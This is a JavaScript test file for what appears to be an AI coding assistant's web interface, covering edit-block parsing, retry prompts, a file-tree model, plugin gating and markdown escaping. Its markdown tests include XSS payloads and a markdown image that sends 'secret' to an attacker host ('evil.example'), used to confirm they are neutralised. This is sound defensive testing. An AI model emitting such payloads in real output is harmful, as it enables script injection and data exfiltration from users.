// Edit-block segmentation, retry prompts, the file-tree model, feature gates
// and markdown escaping.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { segmentAnswer, EDIT, REPL, END } from '../../webapp/src/core/edit-blocks.js';
import { retryPrompt } from '../../webapp/src/core/retry-prompt.js';
import { FileRows, syntheticTree } from '../../webapp/src/core/file-rows.js';
import { featureGate } from '../../webapp/src/core/plugins.js';
import { renderBlocks } from '../../webapp/src/core/markdown.js';

test('an answer splits into prose, a complete edit, and a pending edit', () => {
  const text = `Fix:\n\nsrc/math.py\n${EDIT}\n    return a + b\n${REPL}\n    return a * b\n${END}\nDone.\nnew.txt\n${EDIT}\n${REPL}\nhal`;
  const s = segmentAnswer(text);
  assert.deepEqual(s.map((x) => x.kind), ['text', 'edit', 'text', 'edit']);
  assert.deepEqual(s[1], { kind: 'edit', file: 'src/math.py', oldText: '    return a + b', newText: '    return a * b', isCreate: false, complete: true });
  assert.equal(s[3].isCreate, true);
  assert.equal(s[3].complete, false);
  assert.ok(!s[0].text.includes('src/math.py'), 'the path line belongs to the card');
});

test('a path-less EDIT marker stays prose', () => {
  assert.deepEqual(segmentAnswer(`hello world\n${EDIT}\nx`).map((x) => x.kind), ['text']);
});

test('retry prompts are keyed on error_type', () => {
  const amb = retryPrompt([{ file: 'a.py', status: 'failed', error_type: 'ambiguous_anchor', message: 'Ambiguous anchor: matches 2 locations.' }]);
  assert.match(amb, /^Some edits failed because the old text matched multiple/);
  assert.match(amb, /- a\.py: Ambiguous anchor/);
  const nf = retryPrompt([{ file_path: 'b.py', status: 'failed', error_type: 'anchor_not_found', message: 'whatever text' }]);
  assert.match(nf, /didn't\nmatch the actual file content/);
  assert.equal(retryPrompt([{ file: 'c.py', status: 'not_in_context', error_type: '' }]),
    'The file c.py has been added to context. Please retry the edit for: c.py');
  assert.equal(retryPrompt([{ file: 'd.py', status: 'applied', error_type: '' }]), '');
});

const TREE = {
  tree: { name: 'r', path: '', type: 'dir', children: [
    { name: 'src', path: 'src', type: 'dir', children: [
      { name: 'main.cpp', path: 'src/main.cpp', type: 'file', lines: 120 },
      { name: 'util.cpp', path: 'src/util.cpp', type: 'file', lines: 10 }] },
    { name: 'README.md', path: 'README.md', type: 'file', lines: 3 }] },
  modified: ['src/main.cpp'], staged: ['README.md'], untracked: [], deleted: [],
  diff_stats: { 'src/main.cpp': { additions: 4, deletions: 1 } },
};

test('the tree model: badges, stats, collapsed and expanded folders, changed files', () => {
  const m = new FileRows(TREE);
  assert.deepEqual(m.rows().map((r) => r.path), ['src', 'README.md']);
  const rows = m.rows({ expanded: new Set(['src']) });
  assert.deepEqual(rows.map((r) => r.path), ['src', 'src/main.cpp', 'src/util.cpp', 'README.md']);
  assert.equal(rows[1].badge, 'M');
  assert.deepEqual(rows[1].stats, { additions: 4, deletions: 1 });
  assert.equal(rows[3].badge, 'S');
  assert.deepEqual(m.changed(), ['src/main.cpp', 'README.md']);
  assert.deepEqual(m.filesUnder('src'), ['src/main.cpp', 'src/util.cpp']);
});

test('the filter keeps matches and their folders, whatever is collapsed', () => {
  const m = new FileRows(TREE);
  assert.deepEqual(m.rows({ filter: 'util' }).map((r) => r.path), ['src', 'src/util.cpp']);
  assert.deepEqual(m.rows({ filter: 'SRC MAIN' }).map((r) => r.path), ['src', 'src/main.cpp']);
  assert.deepEqual(m.rows({ filter: 'nothing-like-this' }), []);
});

// How long the build and the filter take is bench/webapp/long-tasks.mjs's figure (issue 27).
test('50,000 files: every one in the model, and the filter finds the last', () => {
  const m = new FileRows(syntheticTree(50000));
  assert.equal(m.files.length, 50000);
  assert.ok(m.rows({ filter: 'file4999' }).some((r) => r.path.endsWith('/file49999.js')));
});

test('a missing plugin disables its feature with a reason naming it', () => {
  const gate = featureGate((m) => m === 'Repo.get_file_tree', [{ id: 'repo', status: 'active' }, { id: 'llm', status: 'failed', error: 'no provider' }]);
  assert.deepEqual(gate('files'), { ok: true, reason: '' });
  assert.match(gate('chat').reason, /llm plugin failed: no provider/);
  assert.match(gate('settings').reason, /settings plugin is not loaded/);
  assert.match(gate('search').reason, /does not provide Repo\.search_files/);
});

test('markdown escapes raw HTML and gives code blocks a copy button', () => {
  const html = renderBlocks('<img src=x onerror=alert(1)>\n\n```python\nx = 1\n```').join('');
  assert.ok(!html.includes('<img'), html);
  assert.match(html, /data-copy/);
  assert.match(html, /hljs-number/);
});

test('markdown links open only http(s) and mailto, in a new tab, and images are never loaded', () => {
  const html = renderBlocks('[docs](https://example.com/a?b=1&c=2) [bad](javascript:alert(1)) <javascript:alert(2)> ' +
    '[data](data:text/html,x) ![leak](https://evil.example/?d=secret) ![x](javascript:alert(3))').join('');
  assert.match(html, /<a href="https:\/\/example\.com\/a\?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">docs<\/a>/);
  assert.ok(!/href="(javascript|data):/i.test(html), html);
  assert.ok(!html.includes('<img'), html);
  assert.match(html, /<a href="https:\/\/evil\.example\/\?d=secret"[^>]*>🖼 leak<\/a>/);
  assert.match(html, / bad javascript:alert\(2\) data /);  // shown, not linked
});

test('the sliced build gives the same model as the one-go build', async () => {
  const data = syntheticTree(5000, 7);
  let yields = 0;
  const sliced = await FileRows.create(data, { budgetMs: 0, yieldToPage: async () => { yields++; } });
  const whole = new FileRows(data);
  assert.ok(yields > 10, 'it yielded between slices');
  assert.deepEqual(sliced.entries, whole.entries);
  assert.deepEqual(sliced.files, whole.files);
  assert.deepEqual(sliced.rows({ filter: 'file12' }), whole.rows({ filter: 'file12' }));
});

test('a superseded build stops between slices and gives no model', async () => {
  let yields = 0;
  const model = await FileRows.create(syntheticTree(5000, 7),
    { budgetMs: 0, yieldToPage: async () => { yields++; }, superseded: () => yields === 2 });
  assert.equal(model, null);
  assert.equal(yields, 2);
});

test('the symbol map needs symbol-index; exclusion and the viewer queries need it and llm', () => {
  const llmOnly = featureGate((m) => m.startsWith('LLMService.'), [{ id: 'llm', status: 'active' }]);
  assert.match(llmOnly('exclusion').reason, /Excluding files from the index is unavailable: the symbol-index plugin is not loaded/);
  assert.match(llmOnly('symbolMap').reason, /The symbol map is unavailable: the symbol-index plugin is not loaded/);
  assert.match(llmOnly('lsp').reason, /Looking up names \(hover, definition, references\) is unavailable: the symbol-index plugin/);
  const both = featureGate((m) => m.startsWith('LLMService.') || m.startsWith('SymbolIndex.'));
  assert.equal(both('lsp').ok, true);
  const indexOnly = featureGate((m) => m.startsWith('SymbolIndex.'), [{ id: 'symbol-index', status: 'active' }]);
  assert.match(indexOnly('exclusion').reason, /the llm plugin is not loaded/);
});
